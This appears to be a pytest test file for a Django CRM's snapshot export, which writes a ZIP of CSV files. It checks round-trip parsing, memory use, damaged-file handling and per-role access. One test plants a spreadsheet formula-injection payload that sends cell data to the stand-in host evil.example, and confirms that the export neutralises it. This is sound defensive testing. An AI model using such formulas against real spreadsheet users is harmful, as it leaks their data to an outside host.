"""The export: a snapshot as a ZIP of CSV files that parse back to exactly the snapshot's rows,
streamed with flat memory."""

import csv
import io
import json
import tracemalloc
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse

from backups import services
from backups.export import FILE_NAMES, export_check, export_file_name, export_stream
from backups.snapshot_format import TABLES_BY_NAME, SnapshotInvalid
from backups.tests.factories import account_fill, live_rows
from core.csv import FORMULA_STARTS
from crm.models import Contact
from crm.tests.factories import CompanyFactory, DealFactory
from history.models import Event, EventType

pytestmark = pytest.mark.django_db(transaction=True)


def _zip(snapshot) -> zipfile.ZipFile:
    export_check(snapshot)
    return zipfile.ZipFile(io.BytesIO(b"".join(export_stream(snapshot))))


def _parsed(archive: zipfile.ZipFile, table_name: str) -> tuple[list[str], list[tuple]]:
    """A CSV of the archive back as model values: what a spreadsheet user's script would do."""
    text = archive.read(FILE_NAMES[table_name]).decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    fields = {f.column: f for f in TABLES_BY_NAME[table_name].fields}
    values = []
    for row in rows:
        converted = []
        for column, text_value in zip(header, row, strict=True):
            field = fields[column]
            if text_value == "" and field.null:
                converted.append(None)
            elif field.get_internal_type() == "BooleanField":
                converted.append({"true": True, "false": False}[text_value])
            elif text_value[:1] == "'" and text_value[1:2] in FORMULA_STARTS:
                converted.append(text_value[1:])  # the apostrophe that keeps a formula text
            else:
                converted.append(field.to_python(text_value))
        values.append(tuple(converted))
    return header, values


def test_the_csvs_parse_back_to_exactly_the_snapshots_rows(account, admin_user, other_account):
    account_fill(account, actor=admin_user)
    CompanyFactory(account=account, title='Smith, "Quoted" & Co', comments='a,b\n"c"\r\n=1+2')
    account_fill(other_account, prefix="other ")
    expected = live_rows(account)
    snapshot = services.snapshot_take(account=account, kind="manual")
    Contact.objects.filter(account=account).update(first_name="changed after the snapshot")

    archive = _zip(snapshot)

    assert sorted(archive.namelist()) == sorted([*FILE_NAMES.values(), "snapshot.json"])
    for table_name in FILE_NAMES:
        header, rows = _parsed(archive, table_name)
        assert header == [f.column for f in TABLES_BY_NAME[table_name].fields]
        assert rows == expected[table_name], table_name
    manifest = json.loads(archive.read("snapshot.json"))
    assert manifest["snapshot"] == snapshot.pk
    assert manifest["files"]["contacts.csv"]["rows"] == len(expected["crm_contact"])
    assert export_file_name(snapshot).startswith(f"crm-snapshot-{snapshot.pk}-")


def test_cells_are_spreadsheet_friendly(account, admin_user):
    account_fill(account, actor=admin_user)
    snapshot = services.snapshot_take(account=account, kind="manual")

    archive = _zip(snapshot)

    raw = archive.read("deals.csv")
    assert raw.startswith("\ufeff".encode())  # UTF-8, recognised by spreadsheets
    text = raw.decode("utf-8-sig")
    assert "99.90" in text and "2031-12-31" in text
    activities = archive.read("activities.csv").decode("utf-8-sig")
    assert "2030-01-02T03:04:05.678901+00:00" in activities
    assert ",true," in activities or ",false," in activities


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_run_is_kept_as_text(account, admin_user, start):
    """Issue 15, item 2: an employee plants a formula in a title; the admin opens the export."""
    planted = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
    CompanyFactory(account=account, title=planted, comments=f"{start}1+2")
    DealFactory(account=account, title="Refund", amount=Decimal("-5.00"))
    snapshot = services.snapshot_take(account=account, kind="manual")

    archive = _zip(snapshot)

    companies = list(csv.DictReader(io.StringIO(archive.read("companies.csv").decode("utf-8-sig"))))
    assert [row["title"] for row in companies] == [f"'{planted}"]
    assert companies[0]["comments"] == f"'{start}1+2"
    deals = list(csv.DictReader(io.StringIO(archive.read("deals.csv").decode("utf-8-sig"))))
    assert deals[0]["amount"] == "-5.00"  # a number stays a number


def test_a_damaged_file_is_refused_before_anything_is_sent(account, admin_user, snapshot_dir):
    snapshot = services.snapshot_take(account=account, kind="manual")
    path = snapshot_dir / snapshot.storage_name
    path.write_bytes(path.read_bytes()[:-20])

    with pytest.raises(SnapshotInvalid):
        export_check(snapshot)


def test_memory_stays_flat_while_streaming(account):
    Contact.objects.bulk_create(
        (
            Contact(account=account, first_name=f"First {n:06d}", last_name="Streaming " * 8)
            for n in range(40_000)
        ),
        batch_size=5000,
    )
    snapshot = services.snapshot_take(account=account, kind="manual")
    tracemalloc.start()
    total = 0
    try:
        for chunk in export_stream(snapshot):
            total += len(chunk)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert total > 500_000
    # 40,000 contacts are about 6 MB of CSV; the stream holds a few chunks at a time.
    assert peak < 3_000_000, f"peak {peak:,} bytes"


def _api_zip(response) -> zipfile.ZipFile:
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "application/zip"
    assert "attachment" in response["Content-Disposition"]
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


def test_admins_download_the_export_and_it_is_in_the_history(account, admin_user, api):
    account_fill(account, actor=admin_user)
    snapshot = services.snapshot_take(account=account, kind="manual")

    archive = _api_zip(api.get(f"/api/v1/backups/snapshots/{snapshot.pk}/export/"))

    assert "contacts.csv" in archive.namelist()
    event = Event.objects.get(account=account, event_type=EventType.EXPORT)
    assert event.actor == admin_user and event.details["snapshot"] == snapshot.pk


def test_export_rules_per_role_and_account(account, employee, other_admin, api_as, support_user):
    snapshot = services.snapshot_take(account=account, kind="manual")
    url = f"/api/v1/backups/snapshots/{snapshot.pk}/export/"

    refused = api_as(employee).get(url)
    assert (refused.status_code, refused.json()["code"]) == (403, "admin_only")
    assert api_as(other_admin).get(url).status_code == 404
    assert api_as(support_user).get(url).status_code == 403
    assert api_as(None).get(url).status_code in (401, 403)
    assert not Event.objects.filter(event_type=EventType.EXPORT).exists()


def test_a_damaged_snapshot_answers_409_and_writes_no_event(account, api, snapshot_dir):
    snapshot = services.snapshot_take(account=account, kind="manual")
    path = snapshot_dir / snapshot.storage_name
    path.write_bytes(path.read_bytes()[:-20])

    response = api.get(f"/api/v1/backups/snapshots/{snapshot.pk}/export/")

    assert (response.status_code, response.json()["code"]) == (409, "snapshot_invalid")
    assert not Event.objects.filter(event_type=EventType.EXPORT).exists()


def test_the_backups_page_offers_the_download(client, account, admin_user, employee, other_admin):
    snapshot = services.snapshot_take(account=account, kind="manual")
    url = reverse("backups:export", args=[snapshot.pk])
    client.force_login(admin_user)

    assert url in client.get(reverse("backups:list")).content.decode()
    archive = _api_zip(client.get(url))
    assert "snapshot.json" in archive.namelist()

    client.force_login(employee)
    assert client.get(url).status_code == 403
    client.force_login(other_admin)
    assert client.get(url).status_code == 404
